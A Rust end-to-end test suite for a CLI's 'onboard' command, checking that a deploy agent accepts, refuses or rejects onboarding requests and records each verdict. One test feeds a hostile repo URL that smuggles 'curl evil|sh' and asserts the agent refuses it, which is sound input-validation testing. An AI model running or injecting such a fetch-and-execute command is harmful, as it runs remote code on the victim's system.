//! Onboarding end to end: `cnctl onboard` as an operator runs it, against the real fleet. Each
//! request gets the deploy agent's verdict from the proof log, with its exit code; hostile and
//! malformed requests are refused or rejected on the record, and the agent keeps working.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test fails by panicking

use std::collections::BTreeSet;
use std::process::Output;

use bus_schema::proof::{ProofKind, ProofRecord};
use bus_schema::subject::ONBOARD_REQUESTS;
use cn_tests::fleet::Fleet;
use cn_tests::proof_log::of_kind;
use cn_tests::scenario::{cnctl, pipeline_pub};
use serde_json::json;

/// Long enough for a loaded machine; a verdict normally arrives within milliseconds.
const WAIT: &str = "30s";
const RUNTIMES: &str = "backend, frontend, worker, job, static";

fn text(out: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// `cnctl onboard` as the operator, waiting up to [`WAIT`].
fn onboard(
    fleet: &Fleet,
    app: &str,
    repo: &str,
    runtime: &str,
    env: &str,
    extra: &[&str],
) -> Output {
    let mut args = vec![
        "onboard",
        "--app",
        app,
        "--repo",
        repo,
        "--runtime",
        runtime,
        "--env",
        env,
        "--wait",
        WAIT,
    ];
    args.extend(extra);
    cnctl(fleet, "operator", &args, None)
}

/// Asserts the exit code and the one line on stdout.
fn assert_verdict(out: &Output, code: i32, line: &str) {
    assert_eq!(out.status.code(), Some(code), "{}", text(out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim_end(), line, "{}", text(out));
}

fn refusal_reasons(records: &[ProofRecord]) -> BTreeSet<String> {
    records.iter().filter_map(|r| r.reason.clone()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cnctl_onboard_prints_the_deploy_agents_verdict_and_exits_by_it() {
    let fleet = Fleet::start().await.unwrap();
    let repo = "https://git.example.com:8443/org/demo-api.git";

    let help = cnctl(&fleet, "operator", &["onboard", "--help"], None);
    let help_text = String::from_utf8_lossy(&help.stdout);
    assert!(help.status.success(), "{}", text(&help));
    for teaches in [
        RUNTIMES,
        "^[a-z0-9][a-z0-9-]{2,49}$",
        "https://HOST[:PORT]/PATH",
        "at most 500 characters",
        "--allow-prod-onboarding",
        "Examples:",
    ] {
        assert!(help_text.contains(teaches), "--help does not teach {teaches:?}:\n{help_text}");
    }
    let usage =
        cnctl(&fleet, "operator", &["onboard", "--app", "demo-api", "--runtime", "backend"], None);
    assert_eq!(usage.status.code(), Some(64), "{}", text(&usage));

    let good = onboard(&fleet, "demo-api", repo, "backend", "dev", &[]);
    assert_verdict(&good, 0, "accepted: demo-api (backend) in dev");
    // Exactly the same request again: JetStream drops the copy, and the verdict shown is the
    // one already recorded.
    let again = onboard(&fleet, "demo-api", repo, "backend", "dev", &[]);
    assert_verdict(&again, 0, "accepted: demo-api (backend) in dev");
    assert!(
        String::from_utf8_lossy(&again.stderr).contains("already published"),
        "{}",
        text(&again)
    );

    let duplicate =
        onboard(&fleet, "demo-api", "https://git.example.com/other/app", "worker", "dev", &[]);
    assert_verdict(
        &duplicate,
        1,
        "refused (duplicate_app): demo-api is already onboarded in dev with different settings; pick another name",
    );
    let runtime = onboard(&fleet, "billing", repo, "cobol", "dev", &[]);
    assert_verdict(
        &runtime,
        1,
        &format!("refused (invalid_runtime): runtime \"cobol\" is not one of: {RUNTIMES}"),
    );
    let hostile =
        onboard(&fleet, "pwn-app", "https://example.com/x;curl evil|sh", "backend", "dev", &[]);
    assert_eq!(hostile.status.code(), Some(1), "{}", text(&hostile));
    assert!(
        String::from_utf8_lossy(&hostile.stdout).starts_with("refused (invalid_repo_url): "),
        "{}",
        text(&hostile)
    );
    let prod = onboard(&fleet, "demo-api", repo, "backend", "prod", &[]);
    assert_eq!(prod.status.code(), Some(1), "{}", text(&prod));
    assert!(
        String::from_utf8_lossy(&prod.stdout).starts_with("refused (env_not_allowed): "),
        "{}",
        text(&prod)
    );

    // --json prints the deploy agent's record as stored.
    let json = onboard(
        &fleet,
        "7-workers",
        "https://github.com/org/workers.git",
        "worker",
        "stage",
        &["--json"],
    );
    assert_eq!(json.status.code(), Some(0), "{}", text(&json));
    let record: ProofRecord =
        serde_json::from_slice(&json.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&json)));
    assert_eq!(
        (record.kind, record.agent.as_str()),
        (ProofKind::OnboardingAccepted, "deploy-agent")
    );
    assert_eq!(record.env.as_ref().map(|e| e.as_str()), Some("stage"));
    assert_eq!(record.detail["app_name"], "7-workers");
    assert!(
        record.correlation_id.as_deref().is_some_and(|c| c.starts_with("cnctl:")),
        "{record:?}"
    );

    // The proof log holds one verdict per request judged: the repeated request was not judged again.
    let records = fleet.records().await.unwrap();
    let accepted = of_kind(&records, ProofKind::OnboardingAccepted);
    let names: Vec<&str> =
        accepted.iter().map(|r| r.detail["app_name"].as_str().unwrap()).collect();
    assert_eq!(names, ["demo-api", "7-workers"], "{accepted:#?}");
    let refused = of_kind(&records, ProofKind::OnboardingRefused);
    assert_eq!(refused.len(), 4, "{refused:#?}");
    let expected: BTreeSet<String> =
        ["duplicate_app", "invalid_runtime", "invalid_repo_url", "env_not_allowed"]
            .map(String::from)
            .into();
    assert_eq!(refusal_reasons(&refused), expected);
    assert!(
        of_kind(&records, ProofKind::EventRejected).is_empty(),
        "cnctl sends only readable requests"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malformed_request_is_rejected_on_the_record_and_the_agent_keeps_onboarding() {
    let fleet = Fleet::start_with(&[("deploy-agent", &["--allow-prod-onboarding"])]).await.unwrap();
    let dev = ONBOARD_REQUESTS.subject(&"dev".parse().unwrap()).to_string();

    // cnctl refuses a bad file itself, as bad usage, and sends nothing.
    let dir = tempfile::tempdir().unwrap();
    let bad_file = dir.path().join("bad.json");
    std::fs::write(&bad_file, r#"{"app_name": "demo-api", "repo_url": "#).unwrap();
    let out = cnctl(
        &fleet,
        "operator",
        &["onboard", "--file", bad_file.to_str().unwrap(), "--wait", "1s"],
        None,
    );
    assert_eq!(out.status.code(), Some(64), "{}", text(&out));

    // Published raw, as a broken pipeline would: not JSON, the wrong types, the wrong env.
    pipeline_pub_raw(&fleet, &dev, b"{\"app_name\": \"broken-json\", \"repo_url\": ").await;
    pipeline_pub(&fleet, &dev, json!({"app_name": 5, "repo_url": "https://example.com/x", "runtime": "backend", "env": "dev"})).await;
    pipeline_pub(&fleet, &dev, json!({"app_name": "wrong-env", "repo_url": "https://example.com/x", "runtime": "backend", "env": "stage"})).await;
    let records = fleet
        .records_until("three rejected onboarding requests", |r| {
            rejected_onboarding(&of_kind(r, ProofKind::EventRejected), &dev).len() == 3
        })
        .await
        .unwrap();
    let rejected = rejected_onboarding(&of_kind(&records, ProofKind::EventRejected), &dev);
    assert!(
        rejected.iter().all(|r| r.agent.as_str() == "deploy-agent" && r.reason.is_some()),
        "{rejected:#?}"
    );
    let excerpts: Vec<&str> =
        rejected.iter().map(|r| r.detail["payload_excerpt"].as_str().unwrap()).collect();
    for sent in ["broken-json", "\"app_name\":5", "wrong-env"] {
        assert!(excerpts.iter().any(|e| e.contains(sent)), "{sent}: {rejected:#?}");
    }
    assert!(
        of_kind(&records, ProofKind::OnboardingAccepted).is_empty()
            && of_kind(&records, ProofKind::OnboardingRefused).is_empty()
    );

    // The agent is still there, and prod is open to it by its flag.
    let good =
        onboard(&fleet, "demo-api", "https://example.com/org/demo-api", "backend", "prod", &[]);
    assert_verdict(&good, 0, "accepted: demo-api (backend) in prod");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_deploy_agent_there_is_no_verdict_and_it_comes_once_the_agent_is_back() {
    let mut fleet = Fleet::start().await.unwrap();
    assert_eq!(fleet.agent("deploy-agent").unwrap().stop().unwrap(), 0);
    let args = [
        "onboard",
        "--app",
        "demo-api",
        "--repo",
        "https://example.com/org/demo-api",
        "--runtime",
        "frontend",
        "--env",
        "dev",
    ];

    let mut waiting = args.to_vec();
    waiting.extend(["--wait", "4s"]);
    let out = cnctl(&fleet, "operator", &waiting, None);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(out.stdout.is_empty(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    // After two seconds it says that it is still waiting; at the end, what to check.
    assert!(
        stderr.contains("waiting for the deploy agent's verdict on demo-api in dev"),
        "{}",
        text(&out)
    );
    assert!(
        stderr.contains("may not be running") && stderr.contains("cnctl status"),
        "{}",
        text(&out)
    );

    // The request was stored; the agent judges it when it is back, and asking again finds that
    // verdict rather than publishing a second request.
    fleet.agent("deploy-agent").unwrap().restart().unwrap();
    let mut again = args.to_vec();
    again.extend(["--wait", WAIT]);
    let out = cnctl(&fleet, "operator", &again, None);
    assert_verdict(&out, 0, "accepted: demo-api (frontend) in dev");
    assert!(String::from_utf8_lossy(&out.stderr).contains("already published"), "{}", text(&out));
    assert_eq!(of_kind(&fleet.records().await.unwrap(), ProofKind::OnboardingAccepted).len(), 1);
}

/// The rejections of inputs on `subject`, in the order they were recorded.
fn rejected_onboarding(rejected: &[ProofRecord], subject: &str) -> Vec<ProofRecord> {
    rejected.iter().filter(|r| r.detail["subject"] == subject).cloned().collect()
}

/// Publishes bytes that are not JSON, as the pipeline user (like `nats pub`).
async fn pipeline_pub_raw(fleet: &Fleet, subject: &str, body: &'static [u8]) {
    let client = fleet.client_as("pipeline").await.unwrap();
    client.publish(subject.to_owned(), body.into()).await.unwrap();
    client.flush().await.unwrap();
}
